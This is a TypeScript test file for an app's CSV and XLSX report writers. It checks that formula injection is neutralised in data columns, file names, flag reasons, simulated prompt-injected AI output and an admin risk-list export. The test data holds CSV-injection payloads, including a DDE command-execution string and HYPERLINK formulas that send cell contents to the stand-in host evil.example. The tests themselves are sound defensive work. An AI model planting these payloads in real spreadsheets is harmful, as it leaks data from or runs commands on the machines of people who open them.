/**
 * Spreadsheet output is safe to open: the real CSV and XLSX writers neutralise text that a
 * spreadsheet would take for a formula (= + - @ tab CR), in original columns, flag reasons, AI
 * text and file names alike, and XML specials or invalid control characters cannot break the
 * workbook. Checked on the writers, on a full analysis through the local stack, and on the
 * administrators' risk-list export. Workbooks are opened with a strict XML parser, independent of the project's read-back helper.
 */
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ByteSink } from '@app/core';
import { CsvWriter } from '@app/core/report/csv-writer.ts';
import { XlsxWriter } from '@app/core/report/xlsx-writer.ts';
import { parseCsvText } from '@app/core/lists/index.ts';
import { startFakeOpenAi, type FakeServer } from '../support/fake-ai.ts';
import { startTestStack, type TestClient, type TestStack } from '../support/stack.ts';
import { sm20Csv, text } from './pipeline-fixtures.ts';
import { startAnalysis, uploadAll, waitForAnalysis } from './pipeline-support.ts';

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

function memorySink(): ByteSink & { bytes(): Uint8Array } {
  const chunks: Uint8Array[] = [];
  return { write: (c) => void chunks.push(Uint8Array.from(c)), end: async () => undefined, bytes: () => Buffer.concat(chunks) };
}

interface Cell {
  text: string;
  style: number;
  formula: boolean;
  /** A number cell (a typed date, time or number): no text a spreadsheet could evaluate. */
  number: boolean;
}

interface Workbook {
  sheets: { name: string; rows: Cell[][] }[];
  /** cellXfs entries: quotePrefix and fill per style index. */
  styles: { quotePrefix: boolean; fillId: number; fontId: number }[];
}

const parser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  parseTagValue: false,
  parseAttributeValue: false,
  trimValues: false,
  htmlEntities: true,
  isArray: (name) => ['row', 'c', 'si', 'xf', 'sheet', 'Relationship'].includes(name),
});

const textOf = (t: unknown): string => (t === undefined ? '' : typeof t === 'object' ? String((t as { '#text'?: unknown })['#text'] ?? '') : String(t));

/**
 * Opens a workbook with a strict, independent XML parser (not the project's read-back helper):
 * every part must be well-formed XML, cells are resolved through sharedStrings and styles.
 */
function openWorkbook(bytes: Uint8Array): Workbook {
  const zip = unzipSync(bytes);
  const xml = (name: string) => {
    const s = strFromU8(zip[name]!);
    expect(XMLValidator.validate(s), name).toBe(true);
    return parser.parse(s);
  };
  const shared = ((xml('xl/sharedStrings.xml').sst.si ?? []) as { t: unknown }[]).map((si) => textOf(si.t));
  const styles = (xml('xl/styles.xml').styleSheet.cellXfs.xf as Record<string, string>[]).map((x) => ({
    quotePrefix: x.quotePrefix === '1',
    fillId: Number(x.fillId),
    fontId: Number(x.fontId),
  }));
  const rels = xml('xl/_rels/workbook.xml.rels').Relationships.Relationship as Record<string, string>[];
  const sheets = (xml('xl/workbook.xml').workbook.sheets.sheet as Record<string, string>[]).map((sh) => {
    const target = rels.find((r) => r.Id === sh['r:id'])!.Target;
    const data = xml(`xl/${target}`).worksheet.sheetData;
    // Cells placed by their reference (empty cells are not written).
    const rows = ((data.row ?? []) as { c?: Record<string, unknown>[] }[]).map((row) => {
      const cells: Cell[] = [];
      for (const c of row.c ?? []) {
        const at = [...String(/^[A-Z]+/.exec(String(c.r))![0])].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;
        while (cells.length < at) cells.push({ text: '', style: 0, formula: false, number: false });
        cells.push({
          text: c.t === 's' ? shared[Number(c.v)]! : c.t === 'inlineStr' ? textOf((c.is as { t: unknown }).t) : textOf(c.v),
          style: Number(c.s ?? 0),
          formula: c.f !== undefined,
          number: c.t === undefined,
        });
      }
      return cells;
    });
    return { name: String(sh.name), rows };
  });
  return { sheets, styles };
}

const texts = (rows: Cell[][]) => rows.map((r) => r.map((c) => c.text));

/** Every formula-looking text cell must be text (never `<f>`) in a quotePrefix style. */
function expectFormulaTextQuoted(wb: Workbook): number {
  let checked = 0;
  for (const sheet of wb.sheets)
    for (const row of sheet.rows)
      for (const c of row) {
        expect(c.formula, `${sheet.name}: ${JSON.stringify(c.text)}`).toBe(false);
        if (c.number) expect(c.text, `${sheet.name}: a number cell`).toMatch(/^-?\d+(\.\d+)?$/);
        else if (FORMULA_START.test(c.text)) {
          expect(wb.styles[c.style]?.quotePrefix, `${sheet.name}: ${JSON.stringify(c.text)}`).toBe(true);
          checked++;
        }
      }
  return checked;
}

describe('the writers', () => {
  it('CSV: every formula-looking cell gets a leading apostrophe, quoting stays intact', async () => {
    const sink = memorySink();
    const csv = new CsvWriter(sink);
    await csv.writeRow(['HEADER', ...HOSTILE]);
    await csv.writeRow(['plain', ...HOSTILE]);
    await csv.writeRow(['a,b', 'say "hi"', 'line\nbreak', '', '1-2', 'x=1', "'=already"]);
    await csv.end();
    const rows = parseCsvText(Buffer.from(sink.bytes()).toString('utf8'));
    expect(rows[0]).toEqual(['HEADER', ...HOSTILE.map((v) => `'${v}`)]);
    expect(rows[1]).toEqual(['plain', ...HOSTILE.map((v) => `'${v}`)]);
    // Only the first character matters; ordinary text is untouched.
    expect(rows[2]).toEqual(['a,b', 'say "hi"', 'line\nbreak', '', '1-2', 'x=1', "'=already"]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });

  it('XLSX: formula-looking text stays exact but quote-prefixed in headers, plain, flagged and shared cells', async () => {
    const sink = memorySink();
    const x = new XlsxWriter(sink);
    await x.startSheet('SM20', ['USER', ...HOSTILE]);
    // Column 1 on is "flagged" and shared, like flag reasons; column 0 is a plain inline cell.
    await x.addRow(['=1+1', ...HOSTILE], (i) => i > 0, 1);
    await x.addRow(['@x', ...HOSTILE]);
    await x.finish();
    const wb = openWorkbook(sink.bytes());
    const rows = wb.sheets[0]!.rows;
    expect(texts(rows)).toEqual([
      ['USER', ...HOSTILE],
      ['=1+1', ...HOSTILE],
      ['@x', ...HOSTILE],
    ]);
    expect(expectFormulaTextQuoted(wb)).toBe(3 * HOSTILE.length + 2);
    // Quote-prefixed cells keep their look: flagged stays amber (fill 3), plain has none, header bold on grey.
    expect(wb.styles[rows[1]![1]!.style]).toEqual({ quotePrefix: true, fillId: 3, fontId: 1 });
    expect(wb.styles[rows[1]![0]!.style]).toEqual({ quotePrefix: true, fillId: 0, fontId: 0 });
    expect(wb.styles[rows[0]![1]!.style]).toEqual({ quotePrefix: true, fillId: 2, fontId: 1 });
    expect(wb.styles[rows[0]![0]!.style]).toEqual({ quotePrefix: false, fillId: 2, fontId: 1 });
  });

  it('XLSX: XML specials and invalid XML control characters do not break the workbook', async () => {
    const nasty = ['<script>alert(1)</script>', 'a & b &amp; c', '"quoted" \'single\'', ']]><x/>', 'nul\u0000bell\u0007vt\u000bff\u000c', 'esc\u001b[31m', 'bad\ufffe\uffff', '  padded  ', 'emoji 🔥 ü 日本', 'lone \ud800 surrogate \udc00'];
    const sink = memorySink();
    const x = new XlsxWriter(sink);
    await x.startSheet('Bad <&> "sheet"/[x]:*?', ['A', 'B']);
    for (const v of nasty) await x.addRow([v, v], () => true, 1);
    await x.finish();
    const wb = openWorkbook(sink.bytes());
    // Characters Excel forbids in sheet names become spaces; the XML specials are escaped.
    expect(wb.sheets[0]!.name).toBe('Bad <&> "sheet"  x    ');
    // Invalid XML characters are dropped; lone surrogates are encoded as U+FFFD.
    const stripped = nasty.map((v) =>
      v.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '').replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'),
    );
    expect(texts(wb.sheets[0]!.rows).slice(1)).toEqual(stripped.map((v) => [v, v]));
  });
});

describe('a full analysis with hostile content', () => {
  let stack: TestStack;
  let alice: TestClient;
  let result: any;
  const fileName = '=HYPERLINK(evil)+sm20.csv';

  beforeAll(async () => {
    stack = await startTestStack({ inMemory: true });
    alice = await stack.signIn(stack.user.email, stack.user.password);
    // Hostile values in original columns, including the user and tcode that flag reasons quote.
    const lines = ['Date,Time,Client,User,Terminal Name,Transaction Code,Program,Event,Audit Log Msg. Text,=EXTRA()'];
    HOSTILE.forEach((v, i) => {
      const cell = `"${v.replace(/"/g, '""')}"`;
      lines.push(`0${2 + i}.11.2026,10:0${i}:00,100,${cell},${cell},SE38,RSDEBUG,CUL,${cell},${cell}`);
    });
    lines.push('10.11.2026,11:00:00,100,=BOB,TERM1,SU01,SAPMSUU0,AU3,Transaction SU01 started,-1');
    const [fileId] = (await uploadAll(alice, [{ name: fileName, bytes: text(lines.join('\r\n') + '\r\n') }])) as [string];
    result = await waitForAnalysis(alice, await startAnalysis(alice, [fileId]));
    expect(result.status, JSON.stringify(result.error)).toBe('completed');
  }, 60_000);

  afterAll(async () => {
    await stack?.stop();
  });

  it('writes a CSV in which no cell starts like a formula, file name and flag reasons included', async () => {
    const res = await fetch(result.csvDownloadUrl);
    expect(res.status).toBe(200);
    const rows = parseCsvText(await res.text());
    expect(rows.length).toBe(HOSTILE.length + 2);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    const header = rows[0]!;
    expect(header).toContain("'=EXTRA()");
    const body = rows.slice(1);
    expect(body.every((r) => r[header.indexOf('SOURCE_FILE')] === `'${fileName}`)).toBe(true);
    // The parser trims cells, so the tab and CR arrive as plain '=1+1'.
    const users = body.map((r) => r[header.indexOf('User')]);
    expect(users).toEqual([...HOSTILE.map((v) => `'${v.trim()}`), "'=BOB"]);
    // Debug flag reasons are written for the hostile rows (the CUL event) and are neutralised too.
    const reasons = body.map((r) => r[header.indexOf('DEBUG_FLAG')]).filter(Boolean);
    expect(reasons.length).toBe(HOSTILE.length);
  });

  it('writes a workbook a strict XML parser opens, with the exact values, no formulas, and quotePrefix on formula-looking text', async () => {
    const res = await fetch(result.excelDownloadUrl);
    expect(res.status).toBe(200);
    const wb = openWorkbook(new Uint8Array(await res.arrayBuffer()));
    const rows = texts(wb.sheets.find((s) => s.name === 'SM20')!.rows);
    const header = rows[0]!;
    expect(header).toContain('=EXTRA()');
    expect(rows.slice(1).map((r) => r[header.indexOf('User')])).toEqual([...HOSTILE.map((v) => v.trim()), '=BOB']);
    expect(expectFormulaTextQuoted(wb)).toBeGreaterThanOrEqual(4 * HOSTILE.length + 2);
  });
});

describe('AI text in the reports', () => {
  const AI_TEXT = '=HYPERLINK("http://evil.example/?d="&A2,"Details")';
  let fake: FakeServer;
  let stack: TestStack;
  let result: any;

  beforeAll(async () => {
    // The model answers every record with a formula, as a prompt-injected model might.
    fake = await startFakeOpenAi((body) => {
      const block = String(body.messages[1].content).split('<records>\n')[1]?.split('\n</records>')[0] ?? '[]';
      const ids = (JSON.parse(block.replace(/\\u003c/g, '<')) as { id: number }[]).map((i) => i.id);
      return { text: JSON.stringify(ids.map((id) => ({ id, analysis: AI_TEXT }))), inputTokens: 10, outputTokens: 10 };
    });
    stack = await startTestStack({ inMemory: true, env: { AI_PROVIDER: 'openai', AI_BASE_URL: fake.url, AI_MODEL: 'local-llm' } });
    const alice = await stack.signIn(stack.user.email, stack.user.password);
    const [fileId] = (await uploadAll(alice, [{ name: 'sm20.csv', bytes: text(sm20Csv(24)) }])) as [string];
    const res = await alice.call('POST', '/analyze', { fileIds: [fileId], aiSettings: { enabled: true, outputColumn: 'AI_Review' } });
    expect(res.status, res.text).toBe(200);
    result = await waitForAnalysis(alice, res.json.analysisId);
    expect(result.status, JSON.stringify(result.error)).toBe('completed');
    expect(result.ai.annotated).toBeGreaterThan(0);
  }, 90_000);

  afterAll(async () => {
    await stack?.stop();
    await fake?.close();
  });

  it('neutralises the model output in the CSV and quote-prefixes it in the workbook', async () => {
    const rows = parseCsvText(await (await fetch(result.csvDownloadUrl)).text());
    const column = rows[0]!.indexOf('AI_Review');
    expect(column).toBeGreaterThan(0);
    const notes = rows.slice(1).map((r) => r[column]).filter(Boolean);
    expect(notes.length).toBe(result.ai.annotated);
    expect(new Set(notes)).toEqual(new Set([`'${AI_TEXT}`]));

    const wb = openWorkbook(new Uint8Array(await (await fetch(result.excelDownloadUrl)).arrayBuffer()));
    const sheet = wb.sheets.find((s) => s.name === 'SM20')!;
    const xColumn = sheet.rows[0]!.findIndex((c) => c.text === 'AI_Review');
    const cells = sheet.rows.slice(1).map((r) => r[xColumn]).filter((c) => c && c.text);
    expect(cells.length).toBe(result.ai.annotated);
    for (const c of cells) {
      expect(c!.text).toBe(AI_TEXT);
      expect(wb.styles[c!.style]?.quotePrefix).toBe(true);
    }
  });
});

describe('the risk-list export', () => {
  let stack: TestStack;
  let admin: TestClient;

  beforeAll(async () => {
    stack = await startTestStack({ inMemory: true });
    admin = await stack.signIn(stack.admin.email, stack.admin.password);
  }, 60_000);

  afterAll(async () => {
    await stack?.stop();
  });

  it('neutralises formula-looking descriptions and the import restores them exactly', async () => {
    const description = '=HYPERLINK("http://evil.example","x")';
    expect((await admin.call('POST', '/risk-tables', { tableId: 'ZSEC_FORMULA', category: 'Security', description })).status).toBe(201);
    const exported = await admin.call('GET', '/risk-export');
    expect(exported.status).toBe(200);
    const csv = await (await fetch(exported.json.tablesUrl)).text();
    const rows = parseCsvText(csv);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    const row = rows.find((r) => r[0] === 'ZSEC_FORMULA')!;
    expect(row[2]).toBe(`'${description}`);

    expect((await admin.call('DELETE', '/risk-tables/ZSEC_FORMULA')).status).toBe(200);
    const imported = await admin.call('POST', '/risk-import', { type: 'tables', csvContent: csv });
    expect(imported.status, imported.text).toBe(200);
    const listed = await admin.call('GET', '/risk-tables?search=ZSEC_FORMULA');
    expect(listed.json.tables.find((t: { tableId: string }) => t.tableId === 'ZSEC_FORMULA')?.description).toBe(description);
  });
});
